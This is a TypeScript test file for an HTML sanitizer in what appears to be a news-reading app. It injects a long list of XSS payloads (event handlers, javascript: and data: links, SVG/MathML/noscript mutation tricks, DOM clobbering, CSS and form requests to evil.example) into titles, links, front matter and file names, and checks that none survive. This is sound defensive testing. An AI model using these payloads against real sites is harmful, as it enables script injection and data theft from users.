import { describe, expect, test } from "vitest";
import { cleanBody } from "./clean/clean-body";
import { findUnclean, textContentOf } from "./fixtures/find-unclean";
import { parseSeed } from "./formats/parse-seed";

/** One or more payloads of every known class; what each would do, were it let through, is in its name. */
const payloads: readonly [name: string, payload: string][] = [
  ["handler on a picture", `<img src=/x onerror="parent.hit=1">`],
  ["handler with odd spacing", `<p/onmouseover\n=\thit()>x</p>`],
  ["handler in an unclosed tag", `<b onclick=hit() `],
  ["handler after a quote trick", `<a title="'></a><i onfocus=hit() tabindex=0 autofocus>">x</a>`],
  ["script", `<script>hit()</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>`],
  ["script in pieces", `<scr<script>ipt>hit()</scr</script>ipt>`],
  ["script scheme", `<a href="javascript:hit()">x</a>`],
  ["script scheme in disguise", `<a href=" \tjAvA&#x0A;scr\nipt&colon;hit()">x</a>`],
  ["script scheme behind a control", `<a href="&#1;javascript:hit()">x</a>`],
  ["data scheme", `<a href="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">x</a>`],
  [
    "other schemes",
    `<a href="vbscript:hit()">x</a><a href="blob:https://a/b">y</a><a href="file:///etc/passwd">z</a>`,
  ],
  ["credentials in a link", `<a href="https://news.example.com@evil.example/">x</a>`],
  ["mirror link with a script", `<ok href="javascript:hit()" onclick="hit()">x</ok>`],
  [
    "link that opens and pings",
    `<a href="//evil.example" target=_top ping=//evil.example download rel=opener>x</a>`,
  ],
  ["svg script", `<svg><script>hit()</script><a xlink:href="javascript:hit()"><text>x</text></a></svg>`],
  ["svg animation", `<svg><animate onbegin=hit() attributeName=x dur=1s></svg>`],
  ["svg mutation", `<svg></p><style><a id="</style><img src=1 onerror=hit()>">`],
  [
    "mathml mutation",
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">`,
  ],
  [
    "foreign content",
    `<svg><foreignObject><p><iframe srcdoc="<script>hit()</script>"></iframe></foreignObject></svg>`,
  ],
  ["noscript mutation", `<noscript><p title="</noscript><img src=x onerror=hit()>">`],
  [
    "template",
    `<template><img src=x onerror=hit()></template><template shadowrootmode=open><script>hit()</script></template>`,
  ],
  [
    "raw text elements",
    `<xmp><p title="</xmp><img src=x onerror=hit()>"></xmp><noembed><img src=x onerror=hit()></noembed>`,
  ],
  [
    "title and textarea",
    `<title><img title="</title><img src=x onerror=hit()>"></title><textarea></textarea><script>hit()</script>`,
  ],
  [
    "select mutation",
    `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=hit()>">`,
  ],
  ["form mutation", `<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>`],
  ["comment tricks", `<!--><img src=x onerror=hit()>--><!-- --!><img src=x onerror=hit()>-->`],
  [
    "clobbering",
    `<img name=body><form id=document name=getElementById><input name=attributes></form><a id=config href=x></a>`,
  ],
  ["ids of the app", `<div id=timeline class=pane slot=x is=x-y popover data-event-id=1>x</div>`],
  ["style attribute", `<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>`],
  ["style element", `<style>@import '//evil.example';*{background:url(//evil.example)}</style>`],
  ["style sheet", `<link rel=stylesheet href=//evil.example><link rel=preload as=image href=//evil.example>`],
  [
    "form",
    `<form action=//evil.example><input type=image src=//evil.example/x><button formaction=javascript:hit()>x</button></form>`,
  ],
  [
    "button that acts for another",
    `<button popovertarget=x commandfor=y command=show-modal>x</button><dialog open>x</dialog>`,
  ],
  ["frames", `<iframe src=//evil.example></iframe><frameset><frame src=javascript:hit()></frameset>`],
  ["objects", `<object data=//evil.example></object><embed src=//evil.example><applet code=x></applet>`],
  ["meta refresh", `<meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example>`],
  ["body and html", `<html onclick=hit()><body onload=hit() background=//evil.example><p>x</p>`],
  [
    "srcset and lazy pictures",
    `<img srcset="//evil.example/a 1x" data-src=javascript:hit() loading=eager><picture><source srcset=//evil.example/b></picture>`,
  ],
  [
    "media",
    `<video poster=//evil.example src=x onerror=hit()><track src=x></video><audio src=//evil.example autoplay></audio>`,
  ],
  [
    "table background",
    `<table background=//evil.example><tr><td background=//evil.example onclick=hit()>x</table>`,
  ],
  ["image map", `<img src=/x usemap=#m><map name=m><area href=javascript:hit()></map>`],
  ["a mark that imitates a passage", `<mark data-event-id=e1 aria-current=true role=button>x</mark>`],
  [
    "a pane that imitates the app",
    `<article role=region aria-label=报道 data-article-id=a1><button aria-pressed=true>x</button></article>`,
  ],
  [
    "an alert that imitates the app",
    `<div role=alert aria-live=assertive contenteditable tabindex=1 accesskey=x>x</div>`,
  ],
  ["direction overrides", `<p>\u202eevil\u202c &#x2066;x&#8238;</p><a href="https://e\u202ex.example">y</a>`],
  ["processing instructions", `<?xml version="1.0"?><?php hit() ?><![CDATA[<img src=x onerror=hit()>]]>`],
  ["closing what stands around it", `</p></div></article></body></html><p>x</p>`],
  ["plain text to the end", `x<plaintext><p>y`],
];

const source = "https://news.example.com/a";
const epoch = "<!--1636774988000-->\n";
const inQuotes = (payload: string) => JSON.stringify(payload.replaceAll("\n", " "));

/** The places where a payload can stand in a seed, its file name among them. */
const places: readonly [place: string, write: (payload: string) => { seed?: string; content: string }][] = [
  ["body", (payload) => ({ content: `${epoch}[t](${source})\n---\n<p>前文。</p>${payload}<p>后文。</p>` })],
  [
    "mirror's body",
    (payload) => ({
      content: `### t\n\n#### [m](n)\n<div><p>前文。</p>${payload}</div>\n\n原文链接：${source}`,
    }),
  ],
  [
    "title",
    (payload) => ({ content: `${epoch}[${payload.replaceAll("\n", " ")}](${source})\n---\n<p>文</p>` }),
  ],
  [
    "caption",
    (payload) => ({
      content: `${epoch}[t](${source})\n---\n<figure><img src=/a.png alt="${payload}"><figcaption>${payload}</figcaption></figure>`,
    }),
  ],
  [
    "link",
    (payload) => ({
      content: `${epoch}[t](${source})\n---\n<p><a href='${payload}'>x</a><ok href="${payload}">y</ok></p>`,
    }),
  ],
  [
    "source address",
    (payload) => ({ content: `${epoch}[t](${payload.replaceAll("\n", " ")})\n---\n<p>文</p>` }),
  ],
  [
    "front matter",
    (payload) => ({
      content: `---\ntitle: ${inQuotes(payload)}\nauthor: ${inQuotes(payload)}\ndate: ${payload.split("\n")[0]!}\nfrom: ${source}\n---\n<p>文</p>`,
    }),
  ],
  ["file name", (payload) => ({ seed: payload, content: `${epoch}[t](${source})\n---\n<p>文</p>` })],
];

const hidden = /[\0-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

describe.each(places)("in the %s", (_, write) => {
  test.each(payloads)("%s comes to nothing", (__, payload) => {
    const { content, seed = "a.md" } = write(payload);
    const parsing = parseSeed({ seed, bytes: new TextEncoder().encode(content), sha256: "" });
    if (!parsing.ok) {
      expect(parsing.messages.length).toBeGreaterThan(0);
      return;
    }
    const { title, author, url } = parsing.value;
    expect(`${title}${author ?? ""}`).not.toMatch(hidden);
    expect(url).toMatch(/^https?:\/\/[^@/]+(?:\/|$)/);
    const body = cleanBody(parsing.value);
    expect(findUnclean(body.html)).toEqual([]);
    expect(textContentOf(body.html)).toBe(body.text);
    for (const picture of body.pictures) expect(picture.url).toMatch(/^https?:/);
    for (const related of body.related) expect(related.url).toMatch(/^https?:/);
  });
});

test("the words around a payload stay", () => {
  for (const [name, payload] of payloads) {
    const content = `${epoch}[t](${source})\n---\n<p>前文。</p>${payload}`;
    const parsing = parseSeed({ seed: "a.md", bytes: new TextEncoder().encode(content), sha256: "" });
    expect(parsing.ok && cleanBody(parsing.value).text.startsWith("前文。"), name).toBe(true);
  }
});

test("a mirror's link is a link and no more", () => {
  const content = `${epoch}[t](${source})\n---\n<p><ok href="/tag/1" target=_top onclick=hit()>标签</ok>。</p>`;
  const parsing = parseSeed({ seed: "a.md", bytes: new TextEncoder().encode(content), sha256: "" });
  expect(parsing.ok && cleanBody(parsing.value).html).toBe(
    '<p><a href="https://news.example.com/tag/1" rel="noopener noreferrer nofollow">标签</a>。</p>',
  );
});
